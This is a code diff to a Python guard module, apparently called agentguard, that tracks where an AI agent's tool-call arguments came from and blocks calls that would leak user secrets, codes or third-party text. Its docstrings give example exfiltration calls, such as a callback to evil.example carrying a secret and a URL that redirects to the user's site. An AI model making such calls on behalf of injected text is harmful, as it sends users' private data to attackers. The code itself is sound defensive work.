@@ -31,7 +31,11 @@ labels it by *every* source it could have come from, and decides fail closed:
   spelled-out dots; file names excepted: values of ``file`` roles such as ``q3.md`` unless they name a network
   location, and file names a trusted listing gave) is a *fetch* of that link, and the link must be the user's
   or trusted like any fetched URL (``get_status(callback="https://evil.example/?k=<secret>")`` is a fetch
-  of a third-party address, not a free read);
+  of a third-party address, not a free read); links are read as a client reads them (WHATWG, userinfo,
+  numeric IPs, IDN) and argument keys and booleans are values;
+- a read of a service that is not the user's own store (undeclared, or inferred and neither a store nor a
+  listing) carries no private value and no 4+-digit code of a tool result the request did not write;
+- an amount is positive (``0 - 45.5`` is a computation, not a payment);
 - outgoing content (bodies, subjects, titles, posts): every link in it (any public suffix, IP literals,
   spelled-out dots: :mod:`agentguard.policies.links`) must be the user's or from a trusted URL source; a
   private value of the user (passport, card, ...; any field of an undeclared tool's record) needs a grant
@@ -51,56 +55,18 @@ from dataclasses import dataclass, field
 from typing import Any, Iterator, Mapping
 
 from .capabilities import Grant, GrantLexicon, mint, strip_quotes
-from .links import links
-from .provenance import _EMAIL, _IBAN, canonical, dates, entities, word_form
-from .toolset import ToolDecl, ToolSet
+from .links import Link, links, local_path
+from .provenance import (_EMAIL, _IBAN, _NOT_DIGIT, _TIME, _arg_leaves, _carries, _leaves, _records, canonical,
+                         dates, entities, times, word_form)
+from .toolset import READ_VERBS, ToolDecl, ToolSet
 
 __all__ = ["Facts", "FlowLedger", "SHINGLE", "times"]
 
 SHINGLE = 8   # consecutive words of third-party text that count as forwarding it
-_TIME = re.compile(r"\b(\d{1,2})(?::(\d{2}))?\s*(a\.?m\.?|p\.?m\.?)(?!\w)|\b(\d{1,2}):(\d{2})\b", re.I)
 _FILE_ROLES = frozenset({"file", "filename"})   # values are file names: "notes.md" parses as a host
-# a file-role value that still names a network location: a scheme, a network-path or UNC prefix, www., a query, an IP
-_NETWORK_PATH = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*://|//|\\\\|www\.)|\?|\b\d{1,3}(?:\.\d{1,3}){3}\b|\[[0-9a-f:]+\]",
-                           re.IGNORECASE)
+# a read verb joined to another verb (get_and_delete, fetch_then_pay) or a particle (check_out, sign_up)
+_COMPOUND = re.compile(r"(?:^|_)(?:and|then|also|plus)_([a-z]+)|^[a-z]+_(?:out|up|off|over|away|through)(?:_|$)")
 _KIND_CODE = {"read": 0, "fetch": 1, "write": 2, "send": 3, "account": 4, "delete": 5}
-
-
-def times(text: str) -> set[str]:
-    """Times of day written in ``text`` as ``HH:MM`` (``10:00``, ``6 PM``, ``9:30am``)."""
-    out = set()
-    for h, m, ap, h24, m24 in _TIME.findall(text):
-        if ap:
-            hh = int(h) % 12 + (12 if ap.lower().startswith("p") else 0)
-            out.add(f"{hh:02d}:{int(m or 0):02d}")
-        elif int(h24) < 24 and int(m24) < 60:
-            out.add(f"{int(h24):02d}:{m24}")
-    return out
-
-
-def _leaves(value: Any) -> Iterator[str]:
-    """Every scalar of an argument or result, as a string (mapping keys are not values)."""
-    if hasattr(value, "model_dump"):
-        value = value.model_dump()
-    if isinstance(value, Mapping):
-        for v in value.values():
-            yield from _leaves(v)
-    elif isinstance(value, (list, tuple, set, frozenset)):
-        for v in value:
-            yield from _leaves(v)
-    elif value is not None and not isinstance(value, bool):
-        yield str(value)
-
-
-def _records(result: Any) -> Iterator[dict[str, Any]]:
-    """The records of a result: each mapping (or model) in it, with its direct fields."""
-    if hasattr(result, "model_dump"):
-        result = result.model_dump()
-    if isinstance(result, Mapping):
-        yield dict(result)
-    elif isinstance(result, (list, tuple)):
-        for r in result:
-            yield from _records(r)
 
 
 def _shingles(words: list[str]) -> set[tuple[str, ...]]:
@@ -182,6 +148,7 @@ class FlowLedger:
         """Record one tool result, each field labelled by ``tool``'s declaration (see the module docstring)."""
         self.calls.append(tool)
         decl = self.toolset.decl(tool)
+        self._cache.pop("codes", None)
         self._cache.pop("derived", None)
         recs = list(_records(result))
         if decl.whole and not recs:   # a bare value or list of values only: never a record's fields
@@ -262,8 +229,8 @@ class FlowLedger:
         kind, form = canonical(value)
         if not form:
             return False
-        if kind == "url":
-            return any(lk.site in self._user_sites for lk in links(value))
+        if kind == "url":   # every host in it (the one a client reaches included: links), not any one of them
+            return bool(lks := links(value)) and all(lk.site in self._user_sites for lk in lks)
         if kind != "text":
             return (kind, form) in self._user_ents or (kind == "date" and ("date", "*" + form[4:]) in self._user_ents)
         return f" {form} " in self._user_text
@@ -288,6 +255,23 @@ class FlowLedger:
             return 0, f"{role} {value!r}: in {src}, but not a record the request names"
         if role in self.toolset.roles["ids"] and self._id_in_third_party(value):
             return 0, f"{role} {value!r}: in {src} but also written in third-party content (fail closed)"
+        return 1, src
+
+    def link_target(self, lk: Link, fetch: bool = False) -> tuple[int, str]:
+        """:meth:`target` of a link as the parser read it: its form is never parsed again (the form
+        ``evil/?r=<the user's site>`` of ``https://evil/?r=...`` would read back as the user's site)."""
+        if lk.site in self._user_sites:
+            return 2, "named in the request"
+        c = ("url", lk.form)
+        if c in self._resolved:
+            return 2, self._resolved[c]
+        if fetch and lk.form in self._pointed:
+            return 1, self._pointed[lk.form]
+        if (src := self._trusted.get("url", {}).get(c)) is None:
+            where = "third-party content" if self.in_third_party(lk.form) else "no source"
+            return 0, f"url {lk.form!r} (host {lk.host}): from {where}, not the request or a trusted url source"
+        if "url" in self.toolset.roles["ids"] and self._id_in_third_party(lk.form):
+            return 0, f"url {lk.form!r}: in {src} but also written in third-party content (fail closed)"
         return 1, src
 
     def _derived(self) -> set[float]:
@@ -324,6 +308,8 @@ class FlowLedger:
         if kind != "number":
             return 0, f"amount {value!r} is not a number"
         x = float(form)
+        if x <= 0:   # a computation (0 - 45.5) or a sign flips who pays: no payment is zero or negative
+            return 0, f"amount {value!r} is not positive"
         if x in self._user_numbers:
             return 2, "written in the request"
         if round(x, 2) in self._derived():
@@ -349,25 +335,43 @@ class FlowLedger:
         for lk in links(value):
             if lk.site in self._user_sites:
                 continue
-            if canonical(lk.form) in self._trusted.get("url", {}):
+            if ("url", lk.form) in self._trusted.get("url", {}):   # the form as parsed, not parsed again
                 continue
             return 0, f"link {lk.form!r} in outgoing content is not the user's (site {lk.site})"
+        for kind, ent in entities(value):   # an account or address only third-party text wrote is the attacker's
+            if kind in ("iban", "email") and (kind, ent) in self._tp_ents and (kind, ent) not in self._user_ents and \
+                    not any((kind, ent) in d for d in self._trusted.values()):
+                return 0, f"{kind} {ent!r} in outgoing content: only third-party content wrote it"
         wf = f" {word_form(value)} "
-        for secret, (src, words) in self._private.items():
-            if f" {secret} " in wf and not any(f" {word_form(w)} " in f" {word_form(g.clause)} "
-                                               for g in grants for w in words):
-                return 0, f"private {src} sent without a request that names it ({' / '.join(words)})"
+        if (why := self._private_in(wf, [g.clause for g in grants])) is not None:
+            return 0, f"{why} sent without a request that names it"
         if target_level < 2 and _shingles(wf.split()) & self._tp_shingles:
             return 0, "forwards third-party text to a target the request does not name"
         return 2, "content checked"
 
+    def _private_in(self, wf: str, scopes: list[str]) -> str | None:
+        """The private value in word form ``wf`` that no sentence of ``scopes`` (the grants') names. An
+        identifier is found however it is spaced or split (:func:`_carries`: ``4237 4252 7456 2574`` for
+        ``4237-4252-7456-2574``, ``H G K 1 3 7 8 0 3``)."""
+        scope_wf = [f" {word_form(c)} " for c in scopes]
+        for secret, (src, words) in self._private.items():
+            if _carries(wf, secret) and not any(f" {word_form(w)} " in c for c in scope_wf for w in words):
+                return f"private {src} ({' / '.join(words)})"
+        return None
+
     def users_words(self, text: str) -> bool:
-        """Every word of ``text`` is a word of the request (a word with digits counts when its letters are at
-        most a 3-letter suffix: ``1-th`` for the request's ``k-th``)."""
-        for w in word_form(text).split():
+        """Every word of ``text`` is a word of the request (a word with at most two digits counts when its
+        letters are at most a 3-letter suffix: ``1-th`` for the request's ``k-th``), and it carries no code a
+        tool result wrote (``463820`` from an e-mail, however spaced: a number is not the user's word)."""
+        wf = word_form(text)
+        digits = _NOT_DIGIT.sub("", wf)
+        if any((_carries(f" {wf} ", c) or _NOT_DIGIT.sub("", c) in digits) and not _carries(self._user_text, c)
+               for c in self._record_codes()):
+            return False
+        for w in wf.split():
             if f" {w} " in self._user_text:
                 continue
-            if re.search(r"\d", w) and len(re.sub(r"[\d.,:-]", "", w)) <= 3:
+            if len(_NOT_DIGIT.sub("", w)) in (1, 2) and len(re.sub(r"[\d.,:-]", "", w)) <= 3:
                 continue
             return False
         return True
@@ -375,31 +379,70 @@ class FlowLedger:
     # ------------------------------------------------------------------ the call
     def _read_links(self, decl: ToolDecl, arguments: Mapping[str, Any]) -> tuple[int, str] | None:
         """The lowest trust of a link a read's arguments carry (the read is then a fetch of it), or ``None``
-        when they carry no link. File names are not links (``notes.md`` and ``app.py`` parse as hosts): values
-        of file-name roles are skipped unless they read as a network address (a ``scheme://``, ``//`` or UNC
-        ``\\\\host`` prefix, ``www.``, a ``?`` query or an IP literal: ``download_file(source="https://...")``
-        is a fetch), and so are file names a trusted listing gave; any other file name that reads
-        as a host must be named by the user, else the read escalates (fail closed)."""
+        when they carry no link. File names are not links (``notes.md`` and ``app.py`` parse as hosts): a
+        value of a file-name role is skipped only while it is a local path by the allow-list grammar of
+        :func:`~agentguard.policies.links.local_path` (no scheme, ``//``, UNC, ``:``, ``?``, ``@``, ``%``, IP
+        literal, nor a first directory that is a host: ``download_file(source="https://...")``,
+        ``bank.com/pay/to/x`` are fetches); a ``query`` argument is skipped when it is such a local path
+        *and* a trusted listing gave it (``read_file(file_path="app.py")``); any other value that carries a
+        link must be the user's or trusted, else the read escalates (fail closed)."""
         worst: tuple[int, str] | None = None
         for arg, v in arguments.items():
-            file_role = decl.role(arg) in _FILE_ROLES
-            for s in _leaves(v):
-                if file_role and not _NETWORK_PATH.search(s):
+            role = decl.role(arg)
+            for s in _arg_leaves(v):
+                if role in _FILE_ROLES and local_path(s):
                     continue   # a local path or file name (``q3.md``), not a network address
-                if any(canonical(s) in self._trusted.get(r, {}) for r in _FILE_ROLES):
+                if role == "query" and local_path(s) and any(canonical(s) in self._trusted.get(r, {})
+                                                             for r in _FILE_ROLES):
                     continue   # a file name a trusted listing gave (``app.py`` from list_files)
                 for lk in links(s):
-                    lv, w = self.target(lk.form, "url", True)
+                    lv, w = self.link_target(lk, True)
                     if worst is None or lv < worst[0]:
                         worst = (lv, f"{arg}: a read carrying a link is a fetch: {w}")
         return worst
+
+    def _record_codes(self) -> set[str]:
+        """Words of 4+ digits (not dates or times) that tool results wrote (computed when first needed)."""
+        if "codes" not in self._cache:
+            words = itertools.chain(" ".join(self._tp_words).split(), (w for p in self._private for w in p.split()),
+                                    (w for d in self._trusted.values() for _, f in d for w in f.split()))
+            self._cache["codes"] = {w for w in words if len(_NOT_DIGIT.sub("", w)) >= 4
+                                    and canonical(w)[0] != "date" and not _TIME.fullmatch(w)}
+        return self._cache["codes"]
+
+    def _remote_leak(self, decl: ToolDecl, arguments: Mapping[str, Any]) -> str | None:
+        """Why a read of a service that is not the user's own store (an undeclared tool, or an inferred one
+        that is neither a store nor a listing) carries the user's data out, or ``None``: its arguments go to
+        that service, so a private value of the user (as for outgoing content), a code or number of four
+        or more digits that a tool result wrote and the request did not (``search_web(query="463820")``),
+        or eight consecutive words of a tool result (an e-mail's sentences) needs the request to name it."""
+        if decl.declared and not decl.inferred or decl.inferred and (decl.results or decl.whole):
+            return None
+        for arg, v in arguments.items():
+            for s in _arg_leaves(v):
+                wf = f" {word_form(s)} "
+                if (why := self._private_in(wf, [self.prompt])) is not None:
+                    return f"{arg}: a read of a service that is not the user's carries {why}"
+                for w in self._record_codes():
+                    if _carries(wf, w) and not _carries(self._user_text, w):
+                        return f"{arg}: a read of a service that is not the user's carries {w!r} from a tool result"
+                if _shingles(wf.split()) & self._tp_shingles - _shingles(self._user_text.split()):
+                    return f"{arg}: a read of a service that is not the user's carries a tool result's text"
+        return None
 
     def facts(self, tool: str, arguments: Mapping[str, Any]) -> Facts:
         """The verified policy's facts for a proposed call (see the module docstring)."""
         decl = self.toolset.decl(tool, arguments.keys())
         kind = _KIND_CODE[decl.kind]
+        name = re.sub(r"([a-z0-9])([A-Z])", r"\1_\2", tool).casefold().replace("-", "_")
+        if decl.kind == "read" and (decl.inferred or not decl.declared) and (
+                (m := _COMPOUND.search(name)) and not {m.group(1), m.group(0).replace("_", "")} & READ_VERBS):
+            # not a read by its name's first verb alone: whatever else it does, no grant names it
+            return Facts(_KIND_CODE["write"], 2, False, 2, "", f"{tool}: a read verb joined to {m.group(0)!r}")
         if decl.kind == "read":
             carried = self._read_links(decl, arguments)
+            if carried is None and (leak := self._remote_leak(decl, arguments)) is not None:
+                return Facts(_KIND_CODE["fetch"], 0, True, 2, "", leak)
             if carried is None:
                 return Facts(kind, 2, True, 2, "", "a read")
             return Facts(_KIND_CODE["fetch"], carried[0], True, 2, "", carried[1])
@@ -412,7 +455,7 @@ class FlowLedger:
         failed: set[str] = set()
         for arg, v in arguments.items():
             role = decl.role(arg)
-            for s in _leaves(v):
+            for s in _arg_leaves(v):
                 if not s.strip():
                     continue
                 if role in roles["content"]:
@@ -432,7 +475,7 @@ class FlowLedger:
                         vt, why_v = lv, f"{arg}: {w}"
                 if role not in roles["targets"] and role != "url":
                     for lk in links(s):   # an address written inside a non-content argument is a target too
-                        lv, w = self.target(lk.form, "url", decl.kind == "fetch")
+                        lv, w = self.link_target(lk, decl.kind == "fetch")
                         failed |= {"url"} if lv == 0 else set()
                         if lv < tt:
                             tt, why_t = lv, f"{arg}: {w}"
